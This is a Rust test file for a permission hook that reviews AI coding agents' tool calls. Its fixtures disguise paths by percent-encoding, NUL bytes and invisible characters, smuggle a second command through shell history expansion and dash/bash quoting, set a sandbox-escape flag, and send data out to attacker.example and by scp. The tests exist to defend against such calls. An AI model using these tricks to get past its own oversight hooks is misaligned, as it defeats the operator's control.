//! Calls a runtime carries out otherwise than their text reads, each
//! through the built binary against the real daemon: a path the runtime
//! decodes, trims or looks up, a tool the mapping did not know, a shell
//! that reads the line another way. The hook must judge what the runtime
//! does, or make the call ask.
#![allow(clippy::unwrap_used, clippy::expect_used, missing_docs)]

use crate::cli_support::{Run, all_actions};
use crate::common::TestApp;
use crate::runtime_hooks::{decided, hook};

use serde_json::{Value, json};

async fn run(app: &TestApp, runtime: &str, input: &Value) -> Run {
    hook(
        &app.base,
        &app.agent,
        runtime,
        &serde_json::to_vec(input).unwrap(),
        "1",
    )
    .await
}

/// The action strings of the actions recorded after the first `skip`.
async fn actions_after(app: &TestApp, skip: usize) -> Vec<String> {
    all_actions(app)
        .await
        .iter()
        .skip(skip)
        .map(|a| a["action_string"].as_str().unwrap().to_owned())
        .collect()
}

/// The last action's decision: asked, since the hook sent a caution.
async fn asked_with_caution(app: &TestApp) {
    let last = all_actions(app).await.last().unwrap().clone();
    assert_eq!(last["decision"]["result"], "ask", "{last}");
    let reason = last["decision"]["reason"].as_str().unwrap();
    assert!(reason.contains("cannot vouch"), "{reason}");
}

async fn count(app: &TestApp) -> usize {
    all_actions(app).await.len()
}

fn gemini(cwd: &str, tool: &str, input: Value) -> Value {
    json!({"session_id": "g1", "cwd": cwd, "hook_event_name": "BeforeTool",
        "tool_name": tool, "tool_input": input})
}

/// Gemini CLI percent-decodes a file path, drops NUL bytes and a leading
/// `@`: each is asked as the file Gemini touches, so `standard`'s
/// protected names and path rules see `.git/hooks/pre-commit`.
#[tokio::test]
async fn a_gemini_file_path_is_asked_as_the_file_gemini_resolves() {
    let app = TestApp::spawn().await;
    app.profile("agent-1", json!("standard")).await;
    let cases: [(&str, &str, &[&str]); 4] = [
        (
            "write_file",
            "%2egit/hooks/pre-commit",
            &["tool:file:write /home/dev/proj/.git/hooks/pre-commit"],
        ),
        (
            "write_file",
            "%2Egemini%2Fsettings.json",
            &["tool:file:write /home/dev/proj/.gemini/settings.json"],
        ),
        (
            "write_file",
            ".g\u{0}it/config",
            &["tool:file:write /home/dev/proj/.git/config"],
        ),
        (
            "replace",
            "%2e%2e/..%2F..%2Fetc/profile",
            &["tool:file:edit /etc/profile"],
        ),
    ];
    for (tool, path, want) in cases {
        let before = count(&app).await;
        let input =
            json!({"file_path": path, "content": "x", "old_string": "a", "new_string": "b"});
        let r = run(&app, "gemini", &gemini("/home/dev/proj", tool, input)).await;
        assert_eq!(r.code, 2, "{path}: {r:?}");
        assert_eq!(actions_after(&app, before).await, want, "{path}");
    }
    // `@x` is `x` unless a file `@x` exists: both are asked, and a path
    // rule sees the one that climbs out.
    app.profile(
        "agent-1",
        json!({"allow": ["tool:file:.*"], "ask": [], "deny": ["tool:file:\\w+ /srv/prod/.*"]}),
    )
    .await;
    let before = count(&app).await;
    let input = json!({"file_path": "@../../../srv/prod/app.env", "content": "x"});
    let r = run(
        &app,
        "gemini",
        &gemini("/home/dev/proj", "write_file", input),
    )
    .await;
    assert_eq!(r.code, 2, "{r:?}");
    assert_eq!(
        actions_after(&app, before).await,
        [
            "tool:file:write /home/dev/srv/prod/app.env",
            "tool:file:write /srv/prod/app.env"
        ]
    );
    // A `%` that does not start an escape is kept, as Gemini keeps it.
    let before = count(&app).await;
    let input = json!({"file_path": "src/100%.txt", "content": "x"});
    let r = run(
        &app,
        "gemini",
        &gemini("/home/dev/proj", "write_file", input),
    )
    .await;
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(
        actions_after(&app, before).await,
        ["tool:file:write /home/dev/proj/src/100%.txt"]
    );
    app.stop().await;
}

/// Gemini CLI's `replace` edits a workspace file whose path ends with a
/// relative name that does not exist as given: the policy's allow does
/// not stand, Gemini asks its user.
#[tokio::test]
async fn a_gemini_replace_of_a_missing_relative_path_asks() {
    let app = TestApp::spawn().await;
    app.profile("agent-1", json!("open")).await;
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("src")).unwrap();
    std::fs::write(dir.path().join("src/a.ts"), "a").unwrap();
    let cwd = dir.path().to_str().unwrap();
    let replace = |path: &str| {
        gemini(
            cwd,
            "replace",
            json!({"file_path": path, "old_string": "a", "new_string": "b"}),
        )
    };
    // Asked of an operator (the daemon holds it whatever allows it);
    // nobody decides within the hook's second: Gemini's deny.
    let r = run(&app, "gemini", &replace("workflows/ci.yml")).await;
    assert_eq!(r.code, 2, "{r:?}");
    asked_with_caution(&app).await;
    let r = run(&app, "gemini", &replace("src/a.ts")).await;
    assert_eq!(r.json()["decision"], "allow", "{r:?}");
    app.stop().await;
}

/// A profile that allows the project's files and denies `/srv/prod`.
fn prod_denied() -> Value {
    json!({"allow": ["tool:file:.*", "tool:Glob:/home/dev/proj/.*"], "ask": [],
           "deny": ["tool:file:\\w+ /srv/prod/.*", "tool:Glob:/srv/prod.*"]})
}

fn claude(tool: &str, id: &str, input: Value) -> Value {
    json!({"session_id": "c1", "cwd": "/home/dev/proj", "hook_event_name": "PreToolUse",
        "tool_name": tool, "tool_use_id": id, "tool_input": input})
}

fn claude_decision(r: &Run) -> String {
    r.json()["hookSpecificOutput"]["permissionDecision"]
        .as_str()
        .unwrap()
        .to_owned()
}

/// opencode trims a patch header's path with JavaScript's `trim`, which
/// removes U+FEFF: the file it writes is `/srv/prod/app.env`, and so is
/// one of the files asked.
#[tokio::test]
async fn an_opencode_patch_path_is_trimmed_as_javascript_trims_it() {
    let app = TestApp::spawn().await;
    app.profile("agent-1", prod_denied()).await;
    let patch = "*** Begin Patch\n*** Add File: \u{feff}/srv/prod/app.env\n+x\n*** End Patch";
    let input = json!({"tool": "apply_patch", "sessionID": "o1", "callID": "k1",
        "directory": "/home/dev/proj", "args": {"patchText": patch}});
    let r = run(&app, "opencode", &input).await;
    assert_eq!(r.json()["status"], "deny", "{r:?}");
    assert!(
        actions_after(&app, 0)
            .await
            .contains(&"tool:file:write /srv/prod/app.env".to_owned())
    );
    app.stop().await;
}

/// A call a `REPL` script makes, and `Glob`'s `path`, reach the hook as
/// written; Claude Code trims the path (JavaScript's `trim`: a no-break
/// space, a tab) before it uses it, and so is it asked.
#[tokio::test]
async fn a_claude_code_path_is_trimmed_as_claude_code_trims_it() {
    let app = TestApp::spawn().await;
    app.profile("agent-1", prod_denied()).await;
    let write = claude(
        "Write",
        "repl_1",
        json!({"file_path": "\u{a0}/srv/prod/app.env", "content": "x"}),
    );
    let r = run(&app, "claude-code", &write).await;
    assert_eq!(claude_decision(&r), "deny", "{r:?}");
    let glob = claude(
        "Glob",
        "toolu_g1",
        json!({"pattern": "*", "path": "\t/srv/prod"}),
    );
    let r = run(&app, "claude-code", &glob).await;
    assert_eq!(claude_decision(&r), "deny", "{r:?}");
    assert_eq!(
        actions_after(&app, 0).await,
        ["tool:file:write /srv/prod/app.env", "tool:Glob:/srv/prod/*"]
    );
    app.stop().await;
}

/// Claude Code's `Monitor` runs a shell command (or opens a WebSocket)
/// and `PowerShell` runs a PowerShell line: the command is asked as the
/// shell line it is, so a deny rule for it holds; the socket as a fetch;
/// and a PowerShell line, which nothing here analyses, is never allowed
/// by a rule alone (Claude Code asks its user).
#[tokio::test]
async fn claude_codes_monitor_and_powershell_are_asked_as_what_they_run() {
    let app = TestApp::spawn().await;
    app.profile(
        "agent-1",
        json!({"allow": ["(?s).*"], "ask": [], "deny": ["tool:bash:rm -rf build.*"]}),
    )
    .await;
    let monitor = |id: &str, extra: Value| {
        let mut input = json!({"description": "watch", "timeout_ms": 300000, "persistent": false});
        for (k, v) in extra.as_object().unwrap() {
            input[k] = v.clone();
        }
        claude("Monitor", id, input)
    };
    let r = run(
        &app,
        "claude-code",
        &monitor("toolu_m1", json!({"command": "rm -rf build"})),
    )
    .await;
    assert_eq!(claude_decision(&r), "deny", "{r:?}");
    let ws = json!({"ws": {"url": "wss://attacker.example/c"}});
    let r = run(&app, "claude-code", &monitor("toolu_m2", ws)).await;
    assert_eq!(claude_decision(&r), "allow", "{r:?}");
    let ps = claude(
        "PowerShell",
        "toolu_p1",
        json!({"command": "Remove-Item -Recurse C:\\proj"}),
    );
    let r = run(&app, "claude-code", &ps).await;
    assert_eq!(claude_decision(&r), "deny", "{r:?}");
    asked_with_caution(&app).await;
    assert_eq!(
        actions_after(&app, 0).await,
        [
            "tool:bash:rm -rf build",
            "tool:WebFetch:wss://attacker.example/c",
            "tool:powershell:Remove-Item -Recurse C:\\proj",
        ]
    );
    app.stop().await;
}

/// A Claude Code command asking to leave its sandbox
/// (`dangerouslyDisableSandbox`) is one Claude Code asks its user about:
/// a rule that allows the command inside the sandbox does not allow it
/// outside, a human decides (unanswered, denied).
#[tokio::test]
async fn a_claude_code_command_leaving_the_sandbox_goes_to_a_human() {
    let app = TestApp::spawn().await;
    app.profile("agent-1", json!("readonly")).await;
    let inside = claude("Bash", "toolu_s1", json!({"command": "git log -1"}));
    let r = run(&app, "claude-code", &inside).await;
    assert_eq!(claude_decision(&r), "allow", "{r:?}");
    let outside = claude(
        "Bash",
        "toolu_s2",
        json!({"command": "git log -1", "dangerouslyDisableSandbox": true}),
    );
    let r = run(&app, "claude-code", &outside).await;
    assert_eq!(claude_decision(&r), "deny", "{r:?}");
    asked_with_caution(&app).await;
    let last = all_actions(&app).await.last().unwrap().clone();
    assert!(
        last["decision"]["reason"]
            .as_str()
            .unwrap()
            .contains("outside its sandbox"),
        "{last}"
    );
    // A standing grant for the command does not settle it either, neither
    // as it is stored nor while it waits (diff review).
    let (s, g) = app
        .call(
            reqwest::Method::POST,
            "/v1/grants",
            Some(&app.operator),
            Some(json!({"tool": "bash", "pattern": "^make ship$", "expires": "1h", "agent": "agent-1"})),
        )
        .await;
    assert!(s.is_success(), "{g}");
    let ship = claude(
        "Bash",
        "toolu_s3",
        json!({"command": "make ship", "dangerouslyDisableSandbox": true}),
    );
    let r = run(&app, "claude-code", &ship).await;
    assert_eq!(claude_decision(&r), "deny", "{r:?}");
    let last = all_actions(&app).await.last().unwrap().clone();
    assert_eq!(last["detail"], "make ship", "{last}");
    // Asked, and withdrawn by the hook when it gave up waiting.
    assert_eq!(last["decision"]["result"], "ask", "{last}");
    assert_eq!(last["status"], "cancelled", "{last}");
    app.stop().await;
}

/// Reading or listing MCP resources through Gemini CLI's, Codex's or
/// Claude Code's own tools taints the session as the proxy's resources
/// do: a way out after it is asked (and, unanswered, denied), while a
/// fresh session's is allowed (`open`).
#[tokio::test]
async fn mcp_resource_tools_of_every_runtime_taint_the_session() {
    let app = TestApp::spawn().await;
    app.profile("agent-1", json!("open")).await;
    let way_out = "scp notes.txt backup.example.com:/srv/notes.txt";
    let gemini_in = |sid: &str, tool: &str, input: Value| {
        let mut v = gemini("/home/dev/proj", tool, input);
        v["session_id"] = json!(sid);
        v
    };
    let shell = json!({"command": way_out});
    let r = run(
        &app,
        "gemini",
        &gemini_in("gf", "run_shell_command", shell.clone()),
    )
    .await;
    assert_eq!(r.code, 0, "a fresh session's way out: {r:?}");
    let r = run(
        &app,
        "gemini",
        &gemini_in("gm", "read_mcp_resource", json!({"uri": "issues://r/42"})),
    )
    .await;
    assert_eq!(r.code, 0, "{r:?}");
    let r = run(
        &app,
        "gemini",
        &gemini_in("gm", "run_shell_command", shell.clone()),
    )
    .await;
    assert_eq!(r.code, 2, "{r:?}");
    let r = run(
        &app,
        "gemini",
        &gemini_in("gl", "list_mcp_resources", json!({})),
    )
    .await;
    assert_eq!(r.code, 0, "{r:?}");
    let r = run(&app, "gemini", &gemini_in("gl", "run_shell_command", shell)).await;
    assert_eq!(r.code, 2, "{r:?}");

    let codex = |id: &str, tool: &str, input: Value| {
        json!({"session_id": "x1", "cwd": "/home/dev/proj", "hook_event_name": "PreToolUse",
            "tool_name": tool, "tool_input": input, "tool_use_id": id})
    };
    let read = json!({"server": "issues", "uri": "issues://r/42"});
    let r = run(&app, "codex", &codex("k1", "read_mcp_resource", read)).await;
    assert_eq!((r.code, r.stdout.as_str()), (0, ""), "{r:?}");
    let r = run(
        &app,
        "codex",
        &codex("k2", "Bash", json!({"command": way_out})),
    )
    .await;
    assert_eq!(
        r.json()["hookSpecificOutput"]["permissionDecision"],
        "deny",
        "{r:?}"
    );

    for (sid, tool, input) in [
        ("cl", "ListMcpResourcesTool", json!({})),
        (
            "cd",
            "ReadMcpResourceDirTool",
            json!({"server": "issues", "uri": "issues://r/"}),
        ),
    ] {
        let mut v = claude(tool, &format!("toolu_{sid}1"), input);
        v["session_id"] = json!(sid);
        let r = run(&app, "claude-code", &v).await;
        assert_eq!(claude_decision(&r), "allow", "{r:?}");
        let mut v = claude(
            "Bash",
            &format!("toolu_{sid}2"),
            json!({"command": way_out}),
        );
        v["session_id"] = json!(sid);
        let r = run(&app, "claude-code", &v).await;
        assert_eq!(claude_decision(&r), "deny", "{tool}: {r:?}");
    }
    app.stop().await;
}

/// An edit with an empty old string creates its file: it is asked as a
/// write, which a profile that allows edits still asks about.
#[tokio::test]
async fn an_edit_that_creates_its_file_is_asked_as_a_write() {
    let app = TestApp::spawn().await;
    app.profile(
        "agent-1",
        json!({"allow": ["tool:file:edit .*"], "ask": ["tool:file:.*"]}),
    )
    .await;
    let path = "/home/dev/proj/conftest.py";
    let opencode = json!({"tool": "edit", "sessionID": "o1", "callID": "e1",
        "directory": "/home/dev/proj",
        "args": {"filePath": "conftest.py", "oldString": "", "newString": "import os"}});
    let r = run(&app, "opencode", &opencode).await;
    assert_eq!(r.json()["status"], "deny", "{r:?}");
    let edit = json!({"file_path": path, "old_string": "", "new_string": "import os"});
    let r = run(
        &app,
        "claude-code",
        &claude("Edit", "toolu_e1", edit.clone()),
    )
    .await;
    assert_eq!(claude_decision(&r), "deny", "{r:?}");
    let r = run(&app, "gemini", &gemini("/home/dev/proj", "replace", edit)).await;
    assert_eq!(r.code, 2, "{r:?}");
    let want = format!("tool:file:write {path}");
    assert_eq!(actions_after(&app, 0).await, [want.as_str(); 3]);
    // An edit of existing text stays an edit.
    let edit = json!({"file_path": path, "old_string": "a", "new_string": "b"});
    let r = run(&app, "claude-code", &claude("Edit", "toolu_e2", edit)).await;
    assert_eq!(claude_decision(&r), "allow", "{r:?}");
    app.stop().await;
}

/// Copilot CLI types its commands into an interactive bash, which expands
/// history references (`!#`, `!!`, `^old^new`) before it runs the line:
/// `readonly` allows the `echo` the text shows, but not the command the
/// expansion makes, so such a line is asked; a `!` bash leaves alone is not.
#[tokio::test]
async fn a_copilot_line_with_a_history_reference_is_asked() {
    let app = TestApp::spawn().await;
    app.profile("agent-1", json!("readonly")).await;
    let copilot = |tool: &str, args: Value| {
        json!({"sessionId": "p1", "timestamp": 1, "cwd": "/home/dev/proj",
            "toolName": tool, "toolArgs": args.to_string()})
    };
    let decision = |r: &Run| r.json()["permissionDecision"].as_str().unwrap().to_owned();
    let expanding = "echo \"Q(touch /tmp/pwned)\" !#:s/Q/$/";
    for (tool, args) in [
        ("bash", json!({"command": expanding})),
        ("bash", json!({"command": "echo \"it's !!\""})),
        (
            "write_bash",
            json!({"shellId": "1", "input": format!("{expanding}{{enter}}")}),
        ),
    ] {
        let r = run(&app, "copilot", &copilot(tool, args.clone())).await;
        assert_eq!(decision(&r), "deny", "{args}: {r:?}");
        asked_with_caution(&app).await;
    }
    for plain in ["echo 'hi!'", "test ! -f x", "echo a!= b", "echo done!"] {
        let r = run(&app, "copilot", &copilot("bash", json!({"command": plain}))).await;
        assert_eq!(decision(&r), "allow", "{plain}: {r:?}");
    }
    app.stop().await;
}

/// Codex may run a line in `sh` (dash) instead of bash: a line the two
/// read differently is not allowed by the policy alone (Codex cannot ask:
/// denied), while a line both read alike is.
#[tokio::test]
async fn a_codex_line_bash_and_dash_read_differently_is_not_allowed_by_policy() {
    let app = TestApp::spawn().await;
    // (`readonly` asks a `$'…'` line itself: a profile allowing `echo`
    // shows the hook's own caution at work.)
    app.profile(
        "agent-1",
        json!({"allow": ["tool:bash:echo( .*)?"], "ask": ["(?s).*"]}),
    )
    .await;
    let codex = |id: &str, command: &str| {
        json!({"session_id": "x1", "cwd": "/home/dev/proj", "hook_event_name": "PreToolUse",
            "tool_name": "Bash", "tool_input": {"command": command}, "tool_use_id": id})
    };
    let r = run(
        &app,
        "codex",
        &codex("k1", "echo $'\\' ; touch /tmp/pwned #'"),
    )
    .await;
    assert_eq!(
        r.json()["hookSpecificOutput"]["permissionDecision"],
        "deny",
        "{r:?}"
    );
    asked_with_caution(&app).await;
    for (id, plain) in [("k2", "echo hi"), ("k3", "echo ${HOME} 'a b'")] {
        let r = run(&app, "codex", &codex(id, plain)).await;
        assert_eq!((r.code, r.stdout.as_str()), (0, ""), "{plain}: {r:?}");
    }
    app.stop().await;
}

/// A call the hook cannot vouch for still runs when an operator, told
/// why in the action's reason, approves that very action.
#[tokio::test]
async fn an_operator_may_approve_a_call_the_hook_cannot_vouch_for() {
    let app = TestApp::spawn().await;
    app.profile("agent-1", json!("guarded")).await;
    let input = json!({"session_id": "x1", "cwd": "/home/dev/proj",
        "hook_event_name": "PreToolUse", "tool_name": "Bash",
        "tool_input": {"command": "printf $'a\\tb'"}, "tool_use_id": "k1"});
    let r = decided(
        &app,
        "codex",
        serde_json::to_vec(&input).unwrap(),
        "approve",
        json!({"note": "ok"}),
    )
    .await;
    assert_eq!((r.code, r.stdout.as_str()), (0, ""), "{r:?}");
    let last = all_actions(&app).await.last().unwrap().clone();
    assert!(
        last["reason"].as_str().unwrap().ends_with(
            "Codex may run this line in sh (dash), which reads `$'` otherwise than bash"
        ),
        "{last}"
    );
    app.stop().await;
}

/// `caution` over the API: an allow asks, naming it; a deny stays a deny;
/// one that is not short printable text is refused, naming the field.
#[tokio::test]
async fn a_caution_leaves_any_allow_to_a_human_and_a_deny_as_it_is() {
    let app = TestApp::spawn().await;
    app.profile(
        "agent-1",
        json!({"allow": ["tool:bash:ls.*"], "ask": [], "deny": ["tool:bash:rm.*"]}),
    )
    .await;
    let post = |detail: &str, caution: Value| {
        let body = json!({"tool": "bash", "detail": detail, "caution": caution});
        let app = &app;
        async move {
            app.call(
                reqwest::Method::POST,
                "/v1/actions",
                Some(&app.agent),
                Some(body),
            )
            .await
        }
    };
    let (s, a) = post("ls -la", json!("a shell may read it otherwise")).await;
    assert_eq!(s, reqwest::StatusCode::CREATED, "{a}");
    assert_eq!(a["status"], "pending", "{a}");
    let reason = a["decision"]["reason"].as_str().unwrap();
    assert!(reason.contains("a shell may read it otherwise"), "{reason}");
    let (_, d) = post("rm -rf build", json!("x")).await;
    assert_eq!(d["status"], "denied", "{d}");
    for bad in [json!(""), json!("a\nb"), json!("x".repeat(501))] {
        let before = count(&app).await;
        let (s, p) = post("ls", bad).await;
        assert_eq!(s, reqwest::StatusCode::UNPROCESSABLE_ENTITY, "{p}");
        assert_eq!(p["errors"][0]["field"], "caution", "{p}");
        assert_eq!(
            count(&app).await,
            before,
            "a refused request stored an action"
        );
    }
    let (_, plain) = post("ls", Value::Null).await;
    assert_eq!(plain["status"], "approved", "{plain}");
    app.stop().await;
}
